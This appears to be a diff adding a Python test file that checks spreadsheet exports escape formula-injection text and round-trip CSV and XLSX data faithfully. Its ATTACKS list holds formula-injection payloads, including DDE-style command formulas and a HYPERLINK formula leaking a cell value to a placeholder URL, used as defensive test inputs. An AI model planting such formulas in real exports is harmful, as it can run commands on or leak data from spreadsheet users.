@@ -1,0 +1,104 @@
+"""Exports open safely in a spreadsheet program and read back as they were."""
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from clusters.workbooks.codes import Code, WorkbookRefused
+from clusters.workbooks.read.load import load_book
+from clusters.workbooks.write.export import ExportTable, escape, from_csv, is_dangerous, to_csv, to_xlsx, unescape
+from tests.assessment.workbooks.samples import opened
+
+ATTACKS = (
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", " =1", "'=1", '"=1', "  '\"=1",
+    "\u3000=1", "=none|'none'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "-2+3+none|'none'!A0",
+)  # fmt: skip
+TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)
+STARTS = st.sampled_from(("", "=", "+", "-", "@", "'", "''", '"', " =", "\t", "＝", "　＠"))
+ANY_TEXT = st.builds(str.__add__, STARTS, TEXTS)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_dangerous_text_is_escaped_in_csv_and_comes_back(text: str) -> None:
+    data = to_csv(("名称",), ((text,),))
+    cell = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1][0]
+    assert cell == "'" + text
+    assert from_csv(data) == [["名称"], [text]]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_dangerous_text_is_a_text_cell_in_xlsx(text: str) -> None:
+    sheet = opened(to_xlsx(ExportTable("表", ("名称",), ((text,),)))).worksheets[0]
+    assert sheet["A4"].data_type == "s"
+
+
+def test_figures_stay_figures() -> None:
+    rows = ((Decimal("-1250.50"), 3, None, date(2022, 12, 31), True, Decimal("1E+3"), Decimal(0)),)
+    assert to_csv(tuple("abcdefg"), rows).decode("utf-8-sig").splitlines()[1] == "-1250.50,3,,2022-12-31,是,1000,0"
+    sheet = opened(to_xlsx(ExportTable("表", tuple("abcdefg"), rows))).worksheets[0]
+    assert [cell.value for cell in sheet[4]] == [-1250.5, 3, None, "2022-12-31", "是", 1000, 0]
+    assert sheet["A4"].number_format == "#,##0.00"
+
+
+def test_csv_begins_with_the_mark_that_excel_needs() -> None:
+    assert to_csv(("集聚区",), ()).startswith(b"\xef\xbb\xbf")
+
+
+def test_csv_of_chinese_excel_is_understood_and_other_bytes_are_refused() -> None:
+    assert from_csv("名称,税收\r\n甲,5\r\n".encode("gb18030")) == [["名称", "税收"], ["甲", "5"]]
+    for data in (b"\xff\xff\xff", b'a,"b\r\nc'):
+        with pytest.raises(WorkbookRefused) as refusal:
+            from_csv(data)
+        assert refusal.value.codes == (Code.ARCHIVE_CORRUPT,)
+
+
+@given(ANY_TEXT)
+def test_escape_can_be_undone_and_leaves_nothing_dangerous(text: str) -> None:
+    assert unescape(escape(text)) == text
+    assert escape(text).startswith("'") or not is_dangerous(escape(text))
+
+
+@given(st.lists(st.lists(ANY_TEXT, min_size=3, max_size=3), max_size=6))
+def test_csv_round_trip_is_the_original(rows: list[list[str]]) -> None:
+    assert from_csv(to_csv(("a", "b", "c"), rows)) == [["a", "b", "c"], *rows]
+
+
+CELL_TEXTS = st.builds(
+    str.__add__,
+    STARTS,
+    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\r\ufffe\uffff"), max_size=40),
+)
+FIGURES = st.decimals("-999999999999.99", "999999999999.99", places=2).map(lambda value: value + 0)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.tuples(CELL_TEXTS, FIGURES), min_size=1, max_size=5))
+def test_xlsx_round_trip_is_the_original(rows: list[tuple[str, Decimal]]) -> None:
+    table = ExportTable("表", ("名称", "税收"), rows)
+    read = load_book(to_xlsx(table)).sheets[0].rows[3:]
+    assert [(name, Decimal(repr(figure)) if figure != "" else None) for name, figure in read] == rows
+
+
+def test_workbook_has_title_notes_filter_and_print_layout() -> None:
+    table = ExportTable(
+        "评分结果", ("集聚区", "税收"), (("甲", Decimal(5)),), notes=("数据年度 2022", "演示数据"), name="结果"
+    )
+    sheet = opened(to_xlsx(table))["结果"]
+    assert [sheet.cell(row, 1).value for row in (1, 2, 3, 5)] == ["评分结果", "数据年度 2022", "演示数据", "集聚区"]
+    assert sheet.auto_filter.ref == "A5:B6"
+    assert sheet.freeze_panes == "A6"
+    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
+
+
+def test_empty_table_can_be_exported() -> None:
+    assert opened(to_xlsx(ExportTable("空表", ("甲", "乙"), ()))).worksheets[0]["A3"].value == "甲"
+
+
+def test_text_too_long_for_a_cell_is_not_cut_off_in_silence() -> None:
+    with pytest.raises(ValueError, match="does not fit"):
+        to_xlsx(ExportTable("表", ("文",), (("x" * 32_768,),)))
